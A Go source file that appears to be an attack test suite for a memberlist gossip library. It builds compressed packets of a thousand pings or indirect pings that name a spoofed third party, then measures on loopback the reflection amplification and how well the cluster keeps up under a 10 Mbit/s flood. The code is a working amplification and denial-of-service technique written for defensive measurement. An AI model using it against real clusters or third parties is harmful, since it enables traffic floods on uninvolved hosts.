package attacks

import (
	"bytes"
	"context"
	"errors"
	"math/rand/v2"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/e3431adc/memberlist/internal/wire"
)

// thousandfold returns one compressed packet of a thousand times the message, which is about as many as a member handles.
func thousandfold(message []byte) []byte {
	compounds := make([][]byte, 4)
	for i := range compounds {
		compounds[i] = compound(repeat(message, 250)...)
	}
	var c wire.Compressor
	return c.Append(nil, compound(compounds...))
}

func repeat(message []byte, n int) [][]byte {
	messages := make([][]byte, n)
	for i := range messages {
		messages[i] = message
	}
	return messages
}

// pingFrom returns a ping that asks for an ack to the address.
func pingFrom(addr netip.AddrPort) []byte {
	m := wire.Ping{SeqNo: 1, SourceAddr: addr.Addr().AsSlice(), SourcePort: addr.Port()}
	return m.Append(nil)
}

func indirectPing(target netip.AddrPort) []byte {
	m := wire.IndirectPing{SeqNo: 1, Target: target.Addr().AsSlice(), Port: target.Port()}
	return m.Append(nil)
}

var amplification = Figure{What: "bytes towards the third party for each byte of the attacker", Unit: "B", Bound: 1}

func compoundPings() Attack {
	return Attack{
		Name:    "compound-pings",
		Does:    "sends packets of a thousand pings, to be answered to a third party that is no member; the user's payload of acks has 900 bytes",
		Figures: []Figure{amplification},
		Run: func(ctx context.Context, r *Run) ([]float64, error) {
			return amplify(ctx, r, pingFrom)
		},
	}
}

func compoundIndirectPings() Attack {
	return Attack{
		Name:    "compound-indirect-pings",
		Does:    "sends packets of a thousand indirect pings of a third party that is no member",
		Figures: []Figure{amplification},
		Run: func(ctx context.Context, r *Run) ([]float64, error) {
			return amplify(ctx, r, indirectPing)
		},
	}
}

// amplify sends a member packets of messages that name a third party, ten a second, and returns the bytes that arrive there for
// each byte sent.
func amplify(ctx context.Context, r *Run, message func(thirdParty netip.AddrPort) []byte) ([]float64, error) {
	members, err := r.cluster(ctx, 3, Options{AckPayload: incompressible(900)})
	if err != nil {
		return nil, err
	}
	attacker, err := r.socket("127.0.0.2")
	if err != nil {
		return nil, err
	}
	victim, err := r.socket("127.0.0.3")
	if err != nil {
		return nil, err
	}
	victim.SetReadBuffer(4 << 20)
	packet := thousandfold(message(addrOf(victim)))
	var received, last atomic.Int64 // bytes; when the last ones arrived
	begin := time.Now()
	var reader sync.WaitGroup
	reader.Go(func() {
		buf := make([]byte, 64<<10)
		for {
			n, err := victim.Read(buf)
			if err != nil {
				return
			}
			received.Add(int64(n))
			last.Store(int64(time.Since(begin)))
		}
	})
	packets := scaled(r, 10, 3)
	every(ctx, 10, packets, func(int) { attacker.WriteToUDPAddrPort(packet, members[0].Addr()) })
	last.Store(int64(time.Since(begin)))
	until(ctx, 10*time.Second, func() bool { return time.Since(begin)-time.Duration(last.Load()) > time.Second })
	victim.Close()
	reader.Wait()
	return []float64{float64(received.Load()) / float64(packets*len(packet))}, nil
}

// incompressible returns n bytes, always the same, which compression does not make shorter.
func incompressible(n int) string {
	b := make([]byte, n)
	rand.NewChaCha8([32]byte{}).Read(b)
	return string(b)
}

// compoundFlood: each packet asks for a thousand answers, which take the time for those to others.
func compoundFlood() Attack {
	return Attack{
		Name:    "compound-flood",
		Does:    "sends a member 10 Mbit/s of packets of a thousand pings, to be answered to a third party",
		Figures: []Figure{{What: "pings of another member that are acked in time", Unit: "%", Bound: 95, AtLeast: true}},
		Alone:   true,
		Run: func(ctx context.Context, r *Run) ([]float64, error) {
			members, err := r.cluster(ctx, 3, Options{})
			if err != nil {
				return nil, err
			}
			attacker, err := r.socket("127.0.0.2")
			if err != nil {
				return nil, err
			}
			thirdParty, err := r.socket("127.0.0.3")
			if err != nil {
				return nil, err
			}
			packet := bytes.Clone(thousandfold(pingFrom(addrOf(thirdParty))))
			attacking, stop := context.WithCancel(ctx)
			var attack, pings sync.WaitGroup
			defer attack.Wait()
			defer stop()
			attack.Go(func() {
				rate := 10e6 / 8 / float64(len(packet))
				every(attacking, rate, int(10*rate), func(int) { attacker.WriteToUDPAddrPort(packet, members[0].Addr()) })
			})
			var acked atomic.Int64
			n := scaled(r, 100, 5)
			every(ctx, 20, n, func(int) {
				pings.Go(func() {
					if members[1].Ping(members[0].Name(), members[0].Addr()) == nil {
						acked.Add(1)
					}
				})
			})
			pings.Wait()
			if ctx.Err() != nil {
				return nil, errors.New("interrupted")
			}
			return []float64{100 * float64(acked.Load()) / float64(n)}, nil
		},
	}
}
